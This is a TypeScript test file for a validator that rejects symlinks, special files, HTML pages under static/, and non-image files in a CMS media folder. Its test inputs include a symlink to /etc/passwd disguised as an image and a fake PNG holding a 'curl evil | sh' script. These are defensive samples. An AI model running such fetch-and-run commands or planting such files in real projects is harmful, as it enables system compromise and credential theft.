import { CHECKED_FOLDERS, contentTreeProblems, isMediaPath, treeEntryProblem, type TreeEntry } from '../../src/lib/contentTree';

const ONLY_REGULAR = 'content/, locales/, static/ hold regular files and folders only';
const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

describe('treeEntryProblem', () => {
  it('checks the folders content comes from', () => {
    expect(CHECKED_FOLDERS).toEqual(['content', 'locales', 'static']);
  });

  it('passes folders, regular files, and images in the media folder', () => {
    for (const entry of [
      { path: 'content/blog', kind: 'directory' },
      { path: 'content/blog/en/a.md', kind: 'file' },
      { path: 'locales/en/common.json', kind: 'file' },
      { path: 'static/favicon.svg', kind: 'file' },
      { path: 'static/robots-notes.txt', kind: 'file' },
      { path: 'static/media/logo.png', kind: 'file', head: PNG },
      { path: 'static/media/2026/chart.PNG', kind: 'file', head: PNG },
    ] as TreeEntry[]) {
      expect(treeEntryProblem(entry)).toBeUndefined();
    }
  });

  it('refuses a symbolic link wherever it points, naming where', () => {
    expect(treeEntryProblem({ path: 'static/media/passwd.png', kind: 'symlink', target: '/etc/passwd' })).toBe(
      `static/media/passwd.png is a symbolic link to /etc/passwd; ${ONLY_REGULAR}: put the file itself there instead of a link`,
    );
    expect(treeEntryProblem({ path: 'content/blog/en/copy.md', kind: 'symlink', target: '../../docs/en/readme.md' })).toBe(
      `content/blog/en/copy.md is a symbolic link to ../../docs/en/readme.md; ${ONLY_REGULAR}: put the file itself there instead of a link`,
    );
    expect(treeEntryProblem({ path: 'static', kind: 'symlink', target: '/home' })).toMatch(/^static is a symbolic link to \/home; /);
  });

  it('refuses pipes, sockets, devices and anything else that is not a file or a folder', () => {
    expect(treeEntryProblem({ path: 'content/home/en/hero.md', kind: 'fifo' })).toBe(`content/home/en/hero.md is a named pipe (FIFO); ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'locales/en/x.sock', kind: 'socket' })).toBe(`locales/en/x.sock is a socket; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/sda', kind: 'block device' })).toBe(`static/sda is a block device; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/zero', kind: 'character device' })).toBe(`static/zero is a character device; ${ONLY_REGULAR}`);
    expect(treeEntryProblem({ path: 'static/door', kind: 'unknown' })).toBe(`static/door is neither a file nor a folder; ${ONLY_REGULAR}`);
  });

  it('refuses an HTML page anywhere under static/, any extension and case, and only there', () => {
    for (const path of ['static/a.html', 'static/b.HTM', 'static/deep/c.xhtml', 'static/d.XHT', 'static/e.shtml', 'static/media/f.Html']) {
      expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(
        `${path} is an HTML page; static/ may not hold .html, .htm, .xhtml, .xht or .shtml files (served from the site's own origin, a page there could run scripts as the site): make it a content page instead`,
      );
    }
    expect(treeEntryProblem({ path: 'static/page.html.txt', kind: 'file' })).toBeUndefined();
    expect(treeEntryProblem({ path: 'content/docs/en/example.html', kind: 'file' })).toBeUndefined();
  });

  it('refuses anything in the media folder that is not an image by extension and contents', () => {
    const rule = 'static/media/, where the CMS uploads, holds images only, whose contents match their extension: .png, .jpg, .jpeg, .gif, .webp, .avif, .ico, .svg';
    expect(treeEntryProblem({ path: 'static/media/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
      `static/media/invoice.png is named .png but its contents are not a PNG image; ${rule}`,
    );
    expect(treeEntryProblem({ path: 'static/media/x.js', kind: 'file', head: new Uint8Array() })).toBe(`static/media/x.js is a .js file, not an image; ${rule}`);
    expect(treeEntryProblem({ path: 'static/media/no-head.png', kind: 'file' })).toBe(`static/media/no-head.png is named .png but its contents are not a PNG image; ${rule}`);
    expect(isMediaPath('static/media/a.png')).toBe(true);
    expect(isMediaPath('static/mediaX/a.png')).toBe(false);
  });
});

describe('contentTreeProblems', () => {
  it('names every problem once, in path order', () => {
    expect(
      contentTreeProblems([
        { path: 'static/z.html', kind: 'file' },
        { path: 'content/a', kind: 'fifo' },
        { path: 'content/ok.md', kind: 'file' },
      ]),
    ).toEqual([expect.stringMatching(/^content\/a is a named pipe/), expect.stringMatching(/^static\/z\.html is an HTML page/)]);
    expect(contentTreeProblems([])).toEqual([]);
  });
});
